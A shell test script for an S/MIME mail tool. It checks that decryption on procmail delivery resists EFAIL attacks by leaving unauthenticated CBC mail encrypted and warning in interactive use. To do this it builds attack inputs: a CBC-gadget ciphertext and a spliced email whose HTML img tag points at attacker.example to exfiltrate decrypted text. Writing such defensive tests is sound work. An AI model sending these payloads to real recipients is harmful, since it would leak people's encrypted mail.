#!/bin/sh
# Decryption on delivery (`decrypt --passthrough`, what procmail runs) is
# never an oracle (EFAIL): CBC content is stored only with a good
# signature by From inside it, else the message goes on encrypted, byte
# for byte, with the reason in the log; AES-GCM is stored; nothing but
# the message's own body is decrypted. Interactive decrypt still
# decrypts, and warns, whatever --quiet says; so does mutt decrypt.
# Through the installed binary and the real procmail.
. "$TESTS_TOP/tests/lib.sh"

P="--passphrase-file $PKI/pass"
SEC="$TESTS_TOP/tests/sec"
# bob receives; alice sends
gs trust import "$PKI/root.crt" >/dev/null
gs cert import "$PKI/inter.crt" >/dev/null
gs key import "$PKI/bob.p12" $P >/dev/null
A="$T_DIR/alice-store"
gs --home "$A" trust import "$PKI/root.crt" >/dev/null
gs --home "$A" cert import "$PKI/inter.crt" "$PKI/bob.crt" >/dev/null
gs --home "$A" key import "$PKI/alice.p12" $P >/dev/null

# headers FROM SUBJECT, then the S/MIME part of a DER file
smime_msg() { # FROM SUBJECT DER
	printf 'From: %s\nTo: Bob Example <bob@example.org>\nSubject: %s\nDate: Sat, 28 Nov 2026 12:00:00 +0000\n' "$1" "$2"
	printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n'
	printf 'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7m\n\n'
	base64 -w 76 "$3"
}
# deliver NAME FILE: decrypt --passthrough --quiet, as procmail runs it
deliver() {
	"$GALSMIME" decrypt --passthrough --quiet $P <"$2" >"$1.out" 2>"$1.err"
	echo $? >"$1.rc"
}
# interactive NAME FILE [ARGS]: decrypt as a person runs it
interactive() {
	n=$1 f=$2; shift 2
	"$GALSMIME" decrypt "$@" $P <"$f" >"$n.out" 2>"$n.err"
	echo $? >"$n.rc"
}
unchanged() { [ "$(cat "$1.rc")" = 0 ] && cmp -s "$2" "$1.out"; }

# ---- the CBC gadget ----
# bob's secret, encrypted to him as openssl cms does (AES-256-CBC); the
# attacker knows its first block and nothing else
printf 'Content-Type: text/plain\r\n\r\nThe launch code is 0000-7781-9931.\r\n' >secret.txt
openssl cms -encrypt -aes256 -binary -outform DER -in secret.txt "$PKI/bob.crt" >secret.der
python3 "$SEC/cbc-gadget.py" secret.der 'Content-Type: te' gadget.der "$PKI/bob.crt" "$PKI/bob.key"
openssl cms -decrypt -inform DER -binary -recip "$PKI/bob.crt" -inkey "$PKI/bob.key" -in gadget.der >gadget.plain 2>/dev/null
check "control: the rewritten ciphertext decrypts to the attacker's text/html around the secret" sh -c \
	"head -1 gadget.plain | grep -q '^Content-Type: (a.*)text/html' && grep -q 'The launch code is 0000-7781-9931' gadget.plain &&
	 grep -q '<img alt=\"xxxxxx' gadget.plain"
check "control: only ciphertext blocks changed (the RecipientInfo is the captured one)" \
	sh -c "openssl cms -cmsout -print -inform DER -in secret.der | sed -n '/recipientInfos/,/encryptedContentInfo/p' >ri.a &&
	       openssl cms -cmsout -print -inform DER -in gadget.der | sed -n '/recipientInfos/,/encryptedContentInfo/p' >ri.b && cmp -s ri.a ri.b"
smime_msg 'Mallory <mallory@example.org>' 'gadget' gadget.der >gadget.eml

deliver gadget gadget.eml
check "gadget, delivery: exit 0, the message passes encrypted, byte for byte" unchanged gadget gadget.eml
check "gadget, delivery: one line says why, under --quiet" sh -c \
	"[ \$(wc -l <gadget.err) = 1 ] && grep -q 'left encrypted: CBC encryption (enveloped-data) is not authenticated, and nothing inside it is signed' gadget.err"
interactive gadget-i gadget.eml
check "gadget, interactive: still decrypted (exit 0)" sh -c \
	"[ \$(cat gadget-i.rc) = 0 ] && grep -q '^Content-Type: (a.*)text/html' gadget-i.out && grep -q 'The launch code' gadget-i.out"
check "gadget, interactive: warns that the content may have been altered" \
	contains gadget-i.err 'WARNING: the content may have been altered: CBC encryption .* nothing inside it is signed'
interactive gadget-q gadget.eml --quiet
check "gadget, interactive --quiet: the warning stays" \
	contains gadget-q.err 'WARNING: the content may have been altered'

# ---- a captured ciphertext as an attached message, between attacker HTML ----
# (the parameter gets the message past the recipe's Content-Type pattern)
printf 'From: Chief Executive <alice@example.org>\nTo: bob@example.org\nSubject: numbers\n\nThe numbers are 42.\n' |
	gs --home "$A" encrypt --no-self >captured.eml 2>/dev/null
{ cat <<EOM
From: mallory <mallory@example.org>
To: bob@example.org
Subject: Fwd: numbers
Date: Sat, 28 Nov 2026 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="efail"; x="application/pkcs7-mime"

--efail
Content-Type: text/html

<img src="http://attacker.example/
--efail
Content-Type: message/rfc822

EOM
cat captured.eml
printf '\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'; } >splice.eml
deliver splice splice.eml
check "attached ciphertext between attacker parts, delivery: passes byte for byte" unchanged splice splice.eml
check "... and the log names the part left encrypted" \
	contains splice.err "part 2.1: encrypted attached message not opened: on delivery only the message's own body is decrypted"
interactive splice-i splice.eml
check "attached ciphertext, interactive: decrypted as before, and said so" sh -c \
	"grep -q 'The numbers are 42' splice-i.out && grep -q 'part 2.1: attached message decrypted' splice-i.err"
interactive splice-q splice.eml --quiet
check "attached ciphertext, interactive --quiet: warns it is not authenticated" \
	contains splice-q.err 'WARNING: the content may have been altered: the attached message at part 2.1: CBC'
# the same ciphertext as a plain part beside attacker parts: never opened
awk '/^Content-Type: message\/rfc822/ { skip = 1; next } skip && /^$/ && !done { done = 1; next }
     skip && !hdr { if (/^Content-/ || /^MIME-/) { print; next } if (/^$/) { hdr = 1 } else next } { print }' splice.eml >part.eml
check "control: part.eml holds the pkcs7-mime part directly" sh -c "grep -q '^Content-Type: application/pkcs7-mime' part.eml && ! grep -q rfc822 part.eml"
deliver part part.eml
check "encrypted part beside attacker parts, delivery: passes byte for byte" unchanged part part.eml

# ---- what is stored decrypted ----
msg alice@example.org bob@example.org "signed then encrypted" | gs --home "$A" encrypt --sign --no-self $P >se.eml 2>/dev/null
check "control: galsmime encrypts with AES-256-CBC by default" sh -c \
	"sed '1,/^\$/d' se.eml | base64 -d | openssl cms -cmsout -print -inform DER | grep -q aes-256-cbc"
deliver se se.eml
check "CBC, signed inside by the trusted sender who is From: decrypted on delivery" sh -c \
	"[ \$(cat se.rc) = 0 ] && grep -q '^Content-Type: multipart/signed' se.out && grep -q 'this is a test message' se.out"
check "... and what is stored verifies" sh -c "'$GALSMIME' verify -q <se.out >/dev/null"
check "... with no warning" lacks se.err 'WARNING|left encrypted'
msg alice@example.org bob@example.org "gcm" | gs --home "$A" encrypt --no-self --cipher aes256-gcm >gcm.eml 2>/dev/null
deliver gcm gcm.eml
check "AES-GCM (AuthEnvelopedData), not signed: decrypted on delivery" sh -c \
	"[ \$(cat gcm.rc) = 0 ] && ! grep -q pkcs7-mime gcm.out && grep -q 'this is a test message' gcm.out"
check "... with no warning" lacks gcm.err 'WARNING|left encrypted'
interactive gcm-i gcm.eml --quiet
check "AES-GCM, interactive: no warning" lacks gcm-i.err 'WARNING'

# ---- what is not ----
msg alice@example.org bob@example.org "cbc, not signed" | gs --home "$A" encrypt --no-self >cbc.eml 2>/dev/null
deliver cbc cbc.eml
check "CBC, not signed, from a trusted sender: left encrypted on delivery" unchanged cbc cbc.eml
check "... nothing inside it is signed" contains cbc.err 'left encrypted: .* nothing inside it is signed'
sed 's/^From: .*/From: mallory <mallory@example.org>/' se.eml >se-mallory.eml
deliver sem se-mallory.eml
check "CBC, signed inside by alice, From mallory: left encrypted" unchanged sem se-mallory.eml
check "... the signature inside is not by From" contains sem.err 'left encrypted: .* not by the From address'
interactive sem-i se-mallory.eml --quiet
check "... interactive: decrypted, the signer is not From, and the warning" sh -c \
	"grep -q 'this is a test message' sem-i.out && grep -q 'signer is not the From address' sem-i.err &&
	 grep -q 'WARNING: the content may have been altered: .* not by the From address' sem-i.err"
# mallory's own signature (a CA bob does not trust) inside
msg mallory@example.org bob@example.org "untrusted" >m.eml
openssl smime -sign -in m.eml -signer "$PKI/mallory.crt" -inkey "$PKI/mallory.key" 2>/dev/null |
	openssl smime -encrypt -aes256 "$PKI/bob.crt" >m.enc 2>/dev/null
{ grep -E '^(From|To|Subject|Date):' m.eml; cat m.enc; } >mallory.eml
deliver mal mallory.eml
check "CBC, signed inside by an untrusted signer who is From: left encrypted" unchanged mal mallory.eml
check "... the signature inside is not good" contains mal.err 'left encrypted: .* the signature inside it is not good'

# ---- mutt's decrypt command says it too ----
openssl cms -encrypt -aes256 -binary -outform DER -in secret.txt "$PKI/bob.crt" >mutt-cbc.der
openssl cms -encrypt -aes-256-gcm -binary -outform DER -in secret.txt "$PKI/bob.crt" >mutt-gcm.der
"$GALSMIME" mutt decrypt mutt-cbc.der <"$PKI/pass" >mc.out 2>mc.err
check "mutt decrypt, CBC: the entity, and the warning on stderr (which mutt shows)" sh -c \
	"grep -q 'The launch code' mc.out && grep -q 'WARNING: the content may have been altered: CBC encryption' mc.err"
"$GALSMIME" mutt decrypt mutt-gcm.der <"$PKI/pass" >mg.out 2>mg.err
check "mutt decrypt, GCM: no warning" sh -c "grep -q 'The launch code' mg.out && ! grep -q WARNING mg.err"

# ---- the real procmail with the recipes shipped, decryption enabled ----
if ! have procmail; then
	skip "procmail delivery" "procmail is not installed"
	exit 0
fi
RECIPES="$GALSMIME_PREFIX/share/galsmime/procmail/galsmime.procmailrc"
# the opt-in recipe uncommented, exactly as shipped
sed '/^#:0 fw/,/^#| \$GALSMIME decrypt/ s/^#//' "$RECIPES" >recipes-on
check "the shipped decrypt recipe runs decrypt --passthrough --quiet" grep -q '^| $GALSMIME decrypt --passthrough --quiet$' recipes-on
sed -e 's/^| \$GALSMIME .*/| cat/' recipes-on >recipes-cat
rcfile() { # NAME RECIPES
	{ printf 'SHELL=/bin/sh\nMAILDIR=%s/md-%s/\nDEFAULT=$MAILDIR\nLOGFILE=%s/pm-%s.log\n' "$T_DIR" "$1" "$T_DIR" "$1"
	  printf 'PATH=%s/bin:%s\nGALSMIME_HOME=%s\nGALSMIME_PASSPHRASE_FILE=%s/pass\nINCLUDERC=%s\n' \
		"$GALSMIME_PREFIX" "$PATH" "$GALSMIME_HOME" "$PKI" "$2"; } >"rc-$1"
}
rcfile on "$T_DIR/recipes-on"
rcfile cat "$T_DIR/recipes-cat"
pm_deliver() { # NAME FILE -> pm-NAME-FILE.eml
	rm -rf "md-$1"
	mkdir "md-$1"
	procmail -m "rc-$1" <"$2" || return 1
	set -- "$1" "$2" "$(find "md-$1" -type f | head -2)"
	[ "$(printf '%s\n' "$3" | grep -c .)" = 1 ] && mv "$3" "pm-$1-$2"
}
# a delivered message without galsmime's Authentication-Results field
strip_ar() { awk 'BEGIN { s = 0 } s == 0 && /^Authentication-Results:/ { s = 1; next }
	s == 1 && /^[ \t]/ { next } { if (s == 1) s = 2; print }' "$1"; }
for f in gadget.eml splice.eml se.eml gcm.eml; do
	if pm_deliver on $f && pm_deliver cat $f; then strip_ar pm-on-$f >pm-on-$f.noar; else fail "procmail delivers $f"; fi
done
check "procmail: the gadget is stored encrypted, as procmail alone stores it" sh -c \
	"grep -q pkcs7-mime pm-on-gadget.eml && ! grep -q 'launch code' pm-on-gadget.eml && cmp -s pm-on-gadget.eml.noar pm-cat-gadget.eml"
check "procmail: the log says why the gadget was left encrypted" contains pm-on.log 'left encrypted: CBC encryption'
check "procmail: the spliced attached ciphertext is stored as it came" sh -c \
	"! grep -q 'The numbers are 42' pm-on-splice.eml && cmp -s pm-on-splice.eml.noar pm-cat-splice.eml"
check "procmail: the log names the attached message left encrypted" contains pm-on.log 'part 2.1: encrypted attached message not opened'
check "procmail: the signed CBC message from the trusted sender is stored decrypted, its signature good" sh -c \
	"grep -q 'this is a test message' pm-on-se.eml && head -3 pm-on-se.eml | grep -q 'smime=pass'"
check "procmail: the GCM message is stored decrypted" sh -c \
	"grep -q 'this is a test message' pm-on-gcm.eml && ! grep -q pkcs7-mime pm-on-gcm.eml"
